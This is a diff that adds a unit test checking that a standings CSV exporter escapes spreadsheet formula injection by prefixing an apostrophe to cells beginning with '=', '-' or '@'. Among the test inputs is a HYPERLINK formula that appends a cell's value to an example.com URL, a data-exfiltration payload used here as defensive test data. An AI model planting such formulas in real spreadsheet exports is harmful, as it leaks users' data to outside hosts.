@@ -41,4 +41,27 @@ describe('standings CSV', () => {
       '',
     ]);
   });
+
+  it('gives text a spreadsheet would run as a formula a leading apostrophe, and leaves numbers be', () => {
+    const row = (name: string, tieBreak: number) => ({
+      place: 1,
+      entrantId: 'bot-1',
+      name,
+      kind: 'bot' as const,
+      status: 'active' as const,
+      points: 0,
+      tieBreaks: [{ name: 'rating', value: tieBreak }],
+      games: 0,
+      wins: 0,
+      byes: 0,
+    });
+    const [, formula, minus, at] = standingsCsv([
+      row('=HYPERLINK("http://example.com/?"&A1,"Click")', -2.5),
+      row('-1+1', 0),
+      row('@SUM(A1)', 0),
+    ]).split('\r\n');
+    expect(formula).toBe('1,bot-1,"\'=HYPERLINK(""http://example.com/?""&A1,""Click"")",bot,active,0,-2.5,0,0,0');
+    expect(minus).toContain(",'-1+1,");
+    expect(at).toContain(",'@SUM(A1),");
+  });
 });
